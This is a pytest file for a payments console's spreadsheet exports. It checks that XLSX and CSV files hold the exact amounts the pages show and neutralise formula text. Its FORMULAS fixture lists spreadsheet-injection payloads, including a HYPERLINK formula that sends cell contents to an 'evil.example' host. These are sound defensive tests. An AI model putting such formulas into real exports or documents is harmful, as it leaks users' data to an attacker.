"""Exports as XLSX (and CSV) hold the page's numbers exactly: the trial balance, balance
sheet and income statement of the books page, the bank-vs-book report, and the paged
tables. Amounts are read from the sheet's own XML (the digits openpyxl wrote from a
Decimal), never through a binary float, and compared with the amounts the page shows."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from xml.etree import ElementTree

import httpx

from tests.console.test_console_http import _env, console, login  # noqa: F401 - fixtures

NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class _Tables(HTMLParser):
    """Every table of a page: its id, caption and rows of cell texts."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[dict[str, object]] = []
        self._cell: list[str] | None = None
        self._in_caption = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self.tables.append({"id": dict(attrs).get("id"), "caption": "", "rows": []})
        elif tag == "caption":
            self._in_caption = True
        elif tag == "tr" and self.tables:
            self.tables[-1]["rows"].append([])  # type: ignore[union-attr]
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "caption":
            self._in_caption = False
        elif tag in ("td", "th") and self._cell is not None:
            self.tables[-1]["rows"][-1].append("".join(self._cell).strip())  # type: ignore[index]
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._in_caption:
            self.tables[-1]["caption"] += data  # type: ignore[operator]
        elif self._cell is not None:
            self._cell.append(data)


def tables(html: str) -> list[dict[str, object]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def shown(text: str) -> tuple[Decimal, str] | None:
    """'5,000.00 CNY' as the page shows money -> (Decimal('5000.00'), 'CNY')."""
    found = re.fullmatch(r"(-?[\d,]+(?:\.\d+)?) ([A-Z]{3})", text.strip())
    return (Decimal(found.group(1).replace(",", "")), found.group(2)) if found else None


def sheets(content: bytes) -> dict[str, list[list[object]]]:
    """Each worksheet's rows from the file's XML: numbers as Decimal from their digits,
    strings as text (inline strings, as openpyxl's write-only mode writes them)."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    names = [s.get("name") for s in book.find("s:sheets", NS)]  # type: ignore[union-attr]
    out: dict[str, list[list[object]]] = {}
    for n, name in enumerate(names, start=1):
        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{n}.xml"))
        rows: list[list[object]] = []
        for row in root.iter(f"{{{NS['s']}}}row"):
            cells: list[object] = []
            for c in row:
                col = ord(re.match(r"[A-Z]", c.get("r", "A")).group(0)) - ord("A")  # type: ignore[union-attr]
                while len(cells) < col:
                    cells.append(None)
                if c.get("t") == "n":
                    cells.append(Decimal(c.find("s:v", NS).text))  # type: ignore[union-attr,arg-type]
                else:
                    cells.append("".join(t.text or "" for t in c.iter(f"{{{NS['s']}}}t")))
            rows.append(cells)
        out[str(name)] = rows
    return out


async def _get(client: httpx.AsyncClient, path: str) -> httpx.Response:
    response = await client.get(path)
    assert response.status_code == 200, (path, response.text[:300])
    return response


async def test_the_statements_export_the_numbers_the_books_page_shows(console) -> None:  # noqa: F811
    _, _, client = console
    await login(client, "ctl1")
    page = await _get(client, "/console/books")
    found = tables(page.text)
    [tb_table] = [t for t in found if t["id"] == "trial-balance"]
    # the page's trial balance: account -> (debit, credit, currency)
    page_tb: dict[str, tuple[Decimal | None, Decimal | None, str]] = {}
    for row in tb_table["rows"][1:]:  # type: ignore[index]
        debit, credit = shown(row[-2]), shown(row[-1])
        currency = (debit or credit)[1]  # type: ignore[index]
        page_tb[row[0]] = (debit[0] if debit else None, credit[0] if credit else None, currency)
    assert any(code.startswith("2202.payable.sup-p") for code in page_tb)

    xlsx = await _get(client, "/console/books?table=trial-balance&format=xlsx")
    assert xlsx.headers["content-type"] == XLSX
    [rows] = sheets(xlsx.content).values()
    assert rows[0] == ["Account", "Name", "Type", "Debit", "Credit", "Currency"]
    file_tb = {r[0]: (r[3], r[4], r[5]) for r in rows[1:]}
    assert file_tb == page_tb
    assert all(isinstance(v, Decimal) for r in rows[1:] for v in r[3:5] if v is not None)

    text = (await _get(client, "/console/books?table=trial-balance&format=csv")).text
    file_csv = {r[0]: (Decimal(r[3]) if r[3] else None, Decimal(r[4]) if r[4] else None, r[5])
                for r in list(csv.reader(io.StringIO(text)))[1:]}
    assert file_csv == page_tb

    # the balance sheet and the income statement: every line and total the page shows
    workbook = sheets((await _get(client, "/console/books?format=xlsx")).content)
    assert list(workbook) == ["Trial balance", "Balance sheet", "Income statement"]
    for caption, sheet in (("Balance sheet in", "Balance sheet"),
                           ("Income statement in", "Income statement")):
        page_lines = {(row[0], shown(row[-1])) for t in found
                      if str(t["caption"]).startswith(caption)
                      for row in t["rows"][1:] if shown(row[-1])}  # type: ignore[union-attr]
        # a file row's label as the page labels it: the account, the section's total by
        # the section's title, else the line's name (current earnings, net income)
        file_lines = {(r[1] or (r[0] if str(r[2]).startswith("Total ") else r[2]),
                       (r[3], r[4])) for r in workbook[sheet][1:]}
        assert page_lines and page_lines == file_lines, (page_lines, file_lines)


async def test_the_bank_vs_book_report_exports_as_xlsx_with_the_csvs_numbers(console) -> None:  # noqa: F811
    _, seeded, client = console
    await login(client, "fin1")
    path = f"/console/finance/report?account={seeded.bank}&day={seeded.day}"
    page = await _get(client, path)
    text = (await _get(client, path + "&format=csv")).text
    xlsx = await _get(client, path + "&format=xlsx")
    assert xlsx.headers["content-type"] == XLSX
    [rows] = sheets(xlsx.content).values()
    expected = list(csv.reader(io.StringIO(text)))
    assert rows[0] == expected[0]
    assert len(rows) == len(expected) > 5
    for got, want in zip(rows[1:], expected[1:], strict=True):
        amount = None if want[2] == "-" else Decimal(want[2].replace(",", ""))
        assert got[:2] == want[:2] and got[2] == amount and got[3:] == want[3:], (got, want)
        if amount is not None and got[0] == "balance":
            assert f"{amount:,}" in page.text  # the page shows the same figure


async def test_a_paged_tables_xlsx_holds_every_amount_of_its_page(console) -> None:  # noqa: F811
    _, _, client = console
    await login(client, "ctl1")
    page = await _get(client, "/console/books/accounts?per_page=200")
    [table] = [t for t in tables(page.text) if t["id"] == "accounts"]
    page_rows = {row[0]: shown(row[3]) for row in table["rows"][1:]}  # type: ignore[index]
    [rows] = sheets((await _get(client, "/console/books/accounts?format=xlsx")).content).values()
    assert rows[0][:5] == ["Code", "Name", "Type", "Balance", "Balance currency"]
    assert {r[0]: (r[3], r[4]) for r in rows[1:]} == page_rows


#: text a merchant or a bank controls (a description, a name, a statement's reference)
#: that a spreadsheet would run as a formula if the cell were one
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1",
            "@SUM(1)"]


def _cells_of(content: bytes) -> list[ElementTree.Element]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    return list(root.iter(f"{{{NS['s']}}}c"))


def _text_cells_hold(content: bytes, texts: list[str]) -> None:
    cells = _cells_of(content)
    assert not [c for c in cells if c.find("s:f", NS) is not None], "a cell is a formula"
    held = ["".join(c.itertext()) for c in cells if c.get("t") == "inlineStr"]
    for text in texts:
        assert text in held


def test_an_exports_text_is_never_a_formula() -> None:
    from paycore.console import exports

    response = exports.respond("x", "xlsx", [(
        "Bank vs book", ["section", "label", "amount", "currency"],
        [["unmatched line", text, Decimal("1.00"), "CNY"] for text in FORMULAS])])
    _text_cells_hold(response.body, FORMULAS)


def test_a_paged_tables_text_is_never_a_formula() -> None:
    import zoneinfo

    from paycore.console import web

    table = web.Table("intents", "Intents", [web.Column("description", "Description")],
                      rows=[{"description": text} for text in FORMULAS])
    response = web.export(table, "xlsx", zoneinfo.ZoneInfo("UTC"))
    _text_cells_hold(response.body, FORMULAS)


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_a_csv_exports_text_never_starts_a_formula() -> None:
    # a spreadsheet opening a CSV runs a cell starting '=', '+', '-' or '@': such text
    # gets a leading apostrophe (text to the spreadsheet); an amount stays a number,
    # negative ones too, and other text is unchanged
    from paycore.console import exports

    response = exports.respond("x", "csv", [(
        "Bank vs book", ["section", "label", "amount", "currency"],
        [["unmatched line", text, Decimal("-1.00"), "CNY"] for text in [*FORMULAS, "rent"]])])
    rows = _csv_cells(response.body)[1:]
    assert [r[1] for r in rows] == [f"'{text}" for text in FORMULAS] + ["rent"]
    assert {r[2] for r in rows} == {"-1.00"}


def test_a_paged_tables_csv_text_never_starts_a_formula() -> None:
    import zoneinfo

    from paycore.console import web

    table = web.Table("intents", "Intents", [web.Column("description", "Description")],
                      rows=[{"description": text} for text in [*FORMULAS, "\t=1+1", "rent"]])
    response = web.export(table, "csv", zoneinfo.ZoneInfo("UTC"))
    assert [r[0] for r in _csv_cells(response.body)[1:]] == \
        [f"'{text}" for text in FORMULAS] + ["'\t=1+1", "rent"]


def test_the_bank_vs_book_csv_keeps_a_statements_text_from_running() -> None:
    import datetime as dt

    from reconciliation import ReconciliationReport
    from reconciliation.report import OpenLine

    report = ReconciliationReport(
        bank="1001.bank.x", currency="CNY", day=dt.date(2026, 12, 1),
        bank_opening_minor=0, bank_closing_minor=-100, book_opening_minor=0,
        book_closing_minor=0, matched_lines=0, matched_amount_minor=0,
        open_line_exceptions=1, open_item_exceptions=0, brought_forward_minor=0,
        unmatched_lines_minor=-100, unmatched_items_minor=0, missing_lines_minor=0,
        timing_minor=0, in_transit_count=0, in_transit_minor=0,
        unmatched_lines=[OpenLine(line_id=7, date=dt.date(2026, 12, 1), amount_minor=-100,
                                  reference="=1+1", description=FORMULAS[0])])
    rows = _csv_cells(report.to_csv().encode())
    [line] = [r for r in rows if r[0] == "unmatched line"]
    # the label starts with "line 7: ", so the description inside it cannot run
    assert line[1] == f"line 7: {FORMULAS[0]}"
    assert line[2] == "-1.00" and line[5] == "'=1+1"
    assert [r[2] for r in rows if r[1] == "difference"] == ["-1.00"]


#: text with control characters no XLSX cell holds (a merchant's entry description, a
#: bank statement line): openpyxl raised IllegalCharacterError, the export was a 500
CONTROLS = ["ring\x07bell", "\x1b[31mred", "nul\x00byte", "vt\x0bff\x0c", "tab\tstays"]
SHOWN = ["ring\u2407bell", "\u241b[31mred", "nul\u2400byte", "vt\u240bff\u240c", "tab\tstays"]


def test_an_xlsx_export_of_text_with_control_characters_shows_them() -> None:
    import zoneinfo

    from paycore.console import exports, web

    response = exports.respond("x", "xlsx", [(
        "Bank vs book", ["section", "label", "amount", "currency"],
        [["unmatched line", text, Decimal("1.00"), "CNY"] for text in CONTROLS])])
    assert response.status_code == 200
    _text_cells_hold(response.body, SHOWN)
    table = web.Table("entries", "Entries", [web.Column("description", "Description")],
                      rows=[{"description": text} for text in CONTROLS])
    response = web.export(table, "xlsx", zoneinfo.ZoneInfo("UTC"))
    assert response.status_code == 200
    _text_cells_hold(response.body, SHOWN)
    # the CSV keeps the text as it is
    response = web.export(table, "csv", zoneinfo.ZoneInfo("UTC"))
    assert [r[0] for r in _csv_cells(response.body)[1:]] == CONTROLS
